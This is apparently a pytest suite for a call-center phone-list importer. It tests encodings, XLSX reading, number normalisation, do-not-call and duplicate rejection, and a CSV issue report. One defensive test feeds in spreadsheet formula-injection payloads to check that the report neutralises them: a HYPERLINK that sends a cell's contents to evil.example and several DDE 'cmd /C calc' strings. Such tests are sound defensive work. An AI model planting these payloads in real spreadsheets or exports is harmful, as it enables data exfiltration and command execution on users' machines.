"""Number lists: encodings, XLSX, extra columns, row-by-row report, bad files; on both databases."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import insert, text
from sqlalchemy.engine import Engine

from callcenter.errors import Invalid
from callcenter.leads import Normaliser, find_phone_column, import_list, read_table, report_csv, time_zone_key
from callcenter.models import Campaign, DncEntry, SkillGroup

CSV = (
    "姓名,手机,城市,备注\n张三,13812345678,上海,老客户\n李四,+86 139-0000-1111,北京,\n"
    "王五,12345,广州,坏号码\n赵六,13812345678,上海,重复\n孙七,,深圳,没有号码\n周八,13700000000,杭州,在黑名单\n"
)


def _task(engine: Engine, cid: int = 1) -> int:
    with engine.begin() as c:
        c.execute(insert(SkillGroup).values(id=cid, name=f"g{cid}", description=""))
        c.execute(insert(Campaign).values(id=cid, name="t", state="initializing", skill_group_id=cid))
        c.execute(insert(DncEntry).values(number="+8613700000000", added_at=0, source="t", note=""))
    return cid


def _rows(engine: Engine, sql: str) -> list[tuple]:
    with engine.connect() as c:
        return [tuple(r) for r in c.execute(text(sql))]


def test_gbk_csv_from_excel_imports_with_every_row_accounted_for(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(CSV.encode("gbk"))
    cid = _task(engine)
    result = import_list(engine, campaign_id=cid, path=path, phone_column=None, region="CN")
    assert (result.total, result.imported, result.rejected) == (6, 2, 4)
    leads = _rows(engine, "SELECT row_no, number, tz, fields FROM lead ORDER BY row_no")
    assert [(r[0], r[1], r[2]) for r in leads] == [
        (2, "+8613812345678", "Asia/Shanghai"),
        (3, "+8613900001111", "Asia/Shanghai"),
    ]
    assert json.loads(leads[0][3]) == {"姓名": "张三", "城市": "上海", "备注": "老客户"}
    issues = _rows(engine, "SELECT row_no, reason FROM import_issue ORDER BY row_no")
    assert issues == [(4, "invalid"), (5, "duplicate"), (6, "empty"), (7, "dnc")]
    with engine.connect() as c:
        report = report_csv(c, cid)
    assert report.startswith("\ufeffrow,number,reason,detail")
    assert "5,13812345678,duplicate" in report


def test_utf8_bom_and_xlsx_read_the_same(tmp_path: Path) -> None:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    bom = tmp_path / "bom.csv"
    bom.write_bytes("\ufeff".encode() + CSV.encode("utf-8"))
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    for line in CSV.strip().split("\n"):
        cells = line.split(",")
        sheet.append(
            [int(c) if c.isdigit() and len(c) == 11 else c for c in cells]
        )  # Excel keeps numbers as numbers
    xlsx = tmp_path / "list.xlsx"
    book.save(xlsx)
    for path in (bom, xlsx):
        table = read_table(path)
        assert table.header == ["姓名", "手机", "城市", "备注"]
        rows = list(table.rows)
        assert rows[0][:2] == ["张三", "13812345678"]


def test_import_of_xlsx_on_both_databases(engine: Engine, tmp_path: Path) -> None:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["Phone", "Name", "Plan"])
    for i in range(300):
        sheet.append([f"+1 212 555 {i:04d}" if i % 2 else f"138{i:08d}", f"n{i}", "gold"])
    path = tmp_path / "l.xlsx"
    book.save(path)
    cid = _task(engine)
    result = import_list(engine, campaign_id=cid, path=path, phone_column="Phone", region="CN")
    assert result.imported + result.rejected == 300
    tz = dict(_rows(engine, "SELECT tz, COUNT(*) FROM lead GROUP BY tz"))
    assert tz.get("America/New_York", 0) > 0 and tz.get("Asia/Shanghai", 0) > 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"\x00\x01\x02\x03" * 50, "binary"),
        (b"name,city\nann,x\n", "no phone column"),
        (b"\xff\xfe\x00", ""),
    ],
)
def test_unreadable_lists_are_refused_with_a_reason(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(Invalid) as info:
        table = read_table(path)
        find_phone_column(table.header)
    assert message in info.value.message
    assert info.value.field in ("file", "phone_column")


def test_phone_column_by_name_or_number() -> None:
    assert find_phone_column(["Name", "Mobile"]) == 1
    assert find_phone_column(["a", "b", "c"], "3") == 2
    with pytest.raises(Invalid) as info:
        find_phone_column(["a", "b"], "tel")
    assert info.value.field == "phone_column"


def test_normaliser_agrees_with_phonenumbers() -> None:
    n = Normaliser("CN")
    assert n("138 1234 5678").e164 == "+8613812345678"  # type: ignore[union-attr]
    assert n("010 6552 9988").e164 == "+861065529988"  # type: ignore[union-attr]
    assert n("+1 (212) 555-0100").tz == "America/New_York"  # type: ignore[union-attr]
    assert isinstance(n("12345"), str) and n("") == "empty"
    assert time_zone_key("8613812345678") == "Asia/Shanghai"


def test_the_import_report_cannot_carry_a_formula(sqlite_engine: Engine, tmp_path: Path) -> None:
    """Rejected cells go back to the user in a CSV that Excel opens: a cell starting with = + - @,
    a tab or a carriage return would run as a formula there."""
    import csv
    import io

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"details")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["phone", "name"])
        writer.writerow(["13812345678", "ok"])
        writer.writerow(["13812345678", "duplicate"])  # its detail starts with '+86...'
        for cell in hostile:
            writer.writerow([cell, "x"])
    cid = _task(sqlite_engine)
    import_list(sqlite_engine, campaign_id=cid, path=path, phone_column=None, region="CN")
    with sqlite_engine.connect() as c:
        report = report_csv(c, cid)
    rows = list(csv.reader(io.StringIO(report.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + 1 + len(hostile)
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    # Neutralised, not lost: the cell as typed follows a quote.
    assert "'" + hostile[0][:64] in cells


def test_every_spreadsheet_cell_goes_through_one_helper() -> None:
    from callcenter.leads import spreadsheet_cell

    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("@A1") == "'@A1"
    assert spreadsheet_cell("+8613800138000") == "'+8613800138000"
    assert spreadsheet_cell("plain") == "plain"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell(42) == 42 and spreadsheet_cell(None) is None
